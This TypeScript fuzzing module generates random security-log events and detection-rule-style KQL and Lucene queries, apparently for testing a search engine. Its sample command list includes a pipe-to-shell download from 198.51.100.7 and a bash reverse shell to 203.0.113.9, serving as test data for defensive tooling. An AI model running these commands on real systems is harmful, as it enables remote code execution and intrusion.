import type { Json, JsonObject } from '../../../text/json.ts';
import type { FuzzMapping } from './mappings.ts';
import type { Random } from './random.ts';

const keyword: JsonObject = { type: 'keyword', ignore_above: 1024 };
const named: JsonObject = {
  ...keyword,
  fields: { text: { type: 'text' }, caseless: { type: 'keyword', normalizer: 'lowercase' } },
};

/** A mapping as security data has it. */
const PROPERTIES: JsonObject = {
  '@timestamp': { type: 'date' },
  event: { properties: { category: keyword, type: keyword, action: keyword, outcome: keyword, code: keyword, severity: { type: 'long' }, duration: { type: 'long' }, ingested: { type: 'date' } } },
  host: { properties: { name: named, os: { properties: { type: keyword, family: keyword } }, ip: { type: 'ip' } } },
  user: { properties: { name: named, id: keyword, domain: keyword } },
  process: { properties: { name: named, executable: named, command_line: { type: 'keyword', ignore_above: 120, fields: { text: { type: 'text' } } }, args: keyword, args_count: { type: 'long' }, pid: { type: 'long' }, entity_id: keyword, parent: { properties: { name: named, pid: { type: 'long' } } }, code_signature: { properties: { trusted: { type: 'boolean' }, exists: { type: 'boolean' } } }, uptime: { type: 'float' } } },
  source: { properties: { ip: { type: 'ip' }, port: { type: 'integer' }, bytes: { type: 'long' } } },
  destination: { properties: { ip: { type: 'ip' }, port: { type: 'integer' }, domain: keyword } },
  file: { properties: { path: named, extension: keyword, size: { type: 'long' } } },
  dns: { properties: { question: { properties: { name: keyword } }, answers: { type: 'nested', properties: { data: keyword, ttl: { type: 'long' } } } } },
  labels: { type: 'flattened' },
  message: { type: 'text' },
}; // prettier-ignore

const PROCESSES = [
  'cmd.exe',
  'powershell.exe',
  'curl',
  'bash',
  'sh',
  'python3',
  'rundll32.exe',
  'svchost.exe',
  'sshd',
  'Code.exe',
];
const PATHS = [
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Users\\eve\\AppData\\Local\\Temp\\a.exe',
  '/usr/bin/curl',
  '/tmp/.x/run',
  '/etc/passwd',
  '/home/ann/.ssh/authorized_keys',
];
const COMMANDS = [
  'cmd.exe /c whoami /all',
  'powershell -nop -w hidden -enc SQBFAFgA',
  'curl -fsSL http://198.51.100.7/x.sh | sh',
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'rundll32.exe javascript:"\\..\\mshtml"',
  'python3 -c "import os"',
  `echo ${'A'.repeat(150)}`,
];
const USERS = ['root', 'SYSTEM', 'ann', 'Ann', 'svc-backup', 'eve', 'NT AUTHORITY\\SYSTEM'];
const ADDRESSES = [
  '10.0.0.5',
  '10.1.2.3',
  '192.168.1.20',
  '203.0.113.9',
  '198.51.100.7',
  '127.0.0.1',
  '2001:db8::7',
  '::1',
  '172.16.5.4',
];
const DOMAINS = ['example.com', 'files.example.net', 'EXAMPLE.COM', 'xn--exmple-cua.com', 'a.b.example.org'];

/** An event as an agent or an integration would send it, with fields left out and lists in some. */
export function randomEvent(random: Random): JsonObject {
  const often = (value: () => Json): Json | undefined => (random.chance(0.75) ? value() : undefined);
  const list = (values: readonly Json[]): Json => (random.chance(0.15) ? random.picks(values, 2) : random.pick(values));
  const time = `2026-01-${String(random.int(1, 31)).padStart(2, '0')}T${String(random.int(0, 23)).padStart(2, '0')}:${String(random.int(0, 59)).padStart(2, '0')}:30.${random.int(0, 999)}Z`;
  return present({
    '@timestamp': time,
    event: present({
      category: often(() => list(['process', 'network', 'file', 'authentication', 'dns'])),
      type: often(() => list(['start', 'end', 'change', 'connection'])),
      action: often(() => random.pick(['exec', 'fork', 'logon-failed', 'rename', 'Process Create (rule: ProcessCreate)'])),
      outcome: often(() => random.pick(['success', 'failure', 'unknown'])),
      code: often(() => random.pick(['1', '4624', '4625', 4688, 11])),
      severity: often(() => random.int(0, 100)),
      duration: often(() => random.pick([0, 1500000, 99999999999])),
      ingested: often(() => time.replace('30.', '31.')),
    }),
    host: present({ name: often(() => random.pick(['web-01', 'WEB-01', 'dc01.example.com', 'laptop 7'])), os: present({ type: often(() => random.pick(['windows', 'linux', 'macos'])), family: often(() => random.pick(['windows', 'debian'])) }), ip: often(() => list(ADDRESSES)) }),
    user: present({ name: often(() => random.pick(USERS)), id: often(() => random.pick(['0', '1000', 'S-1-5-18', 0, 1000])), domain: often(() => random.pick(['NT AUTHORITY', 'CORP', ''])) }),
    process: present({
      name: often(() => random.pick(PROCESSES)),
      executable: often(() => random.pick(PATHS)),
      command_line: often(() => random.pick(COMMANDS)),
      args: often(() => random.pick(COMMANDS).split(' ')),
      args_count: often(() => random.int(0, 9)),
      pid: often(() => random.pick([0, 4, 443, 31337, 65536, '4242'])),
      parent: often(() => present({ name: random.pick(PROCESSES), pid: random.int(1, 9999) })),
      code_signature: often(() => present({ trusted: random.chance(0.5), exists: often(() => random.pick([true, 'false'])) })),
      uptime: often(() => random.pick([0.5, 12, 1000.25])),
    }),
    source: often(() => present({ ip: random.pick(ADDRESSES), port: random.pick([22, 443, 51515]), bytes: often(() => random.int(0, 1e9)) })),
    destination: often(() => present({ ip: list(ADDRESSES), port: random.pick([53, 80, 443, 4444]), domain: often(() => random.pick(DOMAINS)) })),
    file: often(() => present({ path: random.pick(PATHS), extension: often(() => random.pick(['exe', 'dll', 'sh', 'EXE'])), size: often(() => random.int(0, 1e6)) })),
    dns: often(() => present({ question: { name: random.pick(DOMAINS) }, answers: often(() => [{ data: random.pick(ADDRESSES), ttl: random.int(0, 300) }, { data: random.pick(DOMAINS) }]) })),
    labels: often(() => ({ env: random.pick(['prod', 'test']), team: random.pick(['blue', 'red']), 'app.version': random.pick(['1.2', '2.0']) })),
    message: often(() => random.pick(['An account failed to log on.', 'Process Create: cmd.exe by eve', 'denied by policy rule 7', 'connection from 203.0.113.9 port 51515'])),
  }); // prettier-ignore
}

const present = (members: Record<string, Json | undefined>): JsonObject =>
  Object.fromEntries(Object.entries(members).filter((entry): entry is [string, Json] => entry[1] !== undefined));

export const EVENTS: FuzzMapping = {
  mapping: { dynamic: false, properties: PROPERTIES },
  settings: {},
  fields: [],
};

const NAMES = [
  'process.name',
  'process.name.caseless',
  'process.parent.name',
  'process.executable',
  'process.command_line',
  'process.args',
  'user.name',
  'user.id',
  'host.name',
  'host.os.type',
  'event.action',
  'event.category',
  'event.type',
  'event.code',
  'event.outcome',
  'file.path',
  'destination.domain',
  'dns.question.name',
  'labels.env',
];
const VALUES = [
  'cmd.exe',
  'CMD.EXE',
  'power*',
  '*.exe',
  '*shell*',
  'curl',
  '/tmp/*',
  'C:\\\\Windows\\\\*',
  '*\\\\Temp\\\\*',
  'process',
  'start',
  'exec',
  'failure',
  '4688',
  'root',
  'S-1-5-18',
  'windows',
  '*example*',
  'prod',
  'eve',
  '*-enc*',
  'web-*',
  '*',
];

/** A condition as rules have it, in KQL. */
function kqlCondition(random: Random): string {
  const value = (): string => {
    const one = random.pick(VALUES);
    return one.includes('*') || random.chance(0.5) ? one : `"${one}"`;
  };
  return random.weighted<string>([
    [6, () => `${random.pick(NAMES)}: ${value()}`],
    [3, () => `${random.pick(NAMES)}: (${value()} or ${value()} or ${value()})`],
    [1, () => `${random.pick(['source.ip', 'destination.ip', 'host.ip'])}: ${random.pick(['10.0.0.0/8', '"2001:db8::/32"', '203.0.113.9', '(10.0.0.0/8 or 192.168.0.0/16 or "::1")', '*'])}`],
    [1, () => `${random.pick(['process.pid', 'source.port', 'destination.port', 'process.args_count', 'event.severity', 'source.bytes'])} ${random.pick([':', '>', '>=', '<', '<='])} ${random.pick(['0', '4', '443', '1000', '4444', '65536'])}`],
    [1, () => `process.code_signature.${random.pick(['trusted', 'exists'])}: ${random.pick(['true', 'false'])}`],
    [0.7, () => `@timestamp ${random.pick(['>=', '<', '<=', '>'])} ${random.pick(['"2026-01-15"', '"2026-01-15T10:00:00Z"', '"2026-01-20||/d"'])}`],
    [0.7, () => `message: ${random.pick(['"failed to log on"', 'denied', '"policy rule"', 'cmd.exe', 'log*'])}`],
    [0.6, () => `dns.answers: { data: ${random.pick(['203.0.113.9', '*example*', '"127.0.0.1"'])} and ttl ${random.pick(['<', '>='])} 100 }`],
    [0.3, () => random.pick(['curl', '"cmd.exe"', 'process.*: curl', '*.name: root'])],
  ]); // prettier-ignore
}

/** A KQL query as rules have it: conditions that must hold, and exclusions. */
export function ruleLikeKql(random: Random): string {
  const parts = Array.from({ length: random.int(1, 3) }, () => kqlCondition(random));
  const excluded = Array.from({ length: random.int(0, 2) }, () => `not ${kqlCondition(random)}`);
  return [...parts, ...excluded].join(random.pick([' and ', ' and ', ' or ']));
}

/** The same in Lucene syntax. */
export function ruleLikeLucene(random: Random): string {
  const one = (): string =>
    random.weighted<string>([
      [4, () => `${random.pick(NAMES)}:${random.pick(VALUES).replace(/^\*$/, '?*').replaceAll(':', '\\:').replaceAll('/', '\\/')}`],
      [2, () => `${random.pick(NAMES)}:(${random.picks(['curl', 'root', '"cmd.exe"', 'web*', 'start'], 2).join(' OR ')})`],
      [1, () => `source.ip:${random.pick(['"10.0.0.0/8"', '[10.0.0.0 TO 10.255.255.255]', '10.0.0.5'])}`],
      [1, () => `process.pid:${random.pick(['[1 TO 500]', '>=443', '{4 TO *]', '4'])}`],
      [1, () => `process.name:/${random.pick(['(cmd|powershell)\\.exe', '[a-z]+', 'c.*'])}/`],
      [0.7, () => `message:${random.pick(['"log on"~2', 'denied', 'conn*', 'fialed~1'])}`],
      [0.5, () => random.pick(['_exists_:labels.env', 'NOT _exists_:user.id', '*', 'curl', '"eve"'])],
      [0.5, () => `@timestamp:${random.pick(['[2026-01-10 TO 2026-01-20]', '>2026-01-15', '"2026-01-15"'])}`],
    ]); // prettier-ignore
  return Array.from({ length: random.int(1, 3) }, () => (random.chance(0.2) ? 'NOT ' : '') + one()).join(
    random.pick([' AND ', ' OR ', ' ']),
  );
}
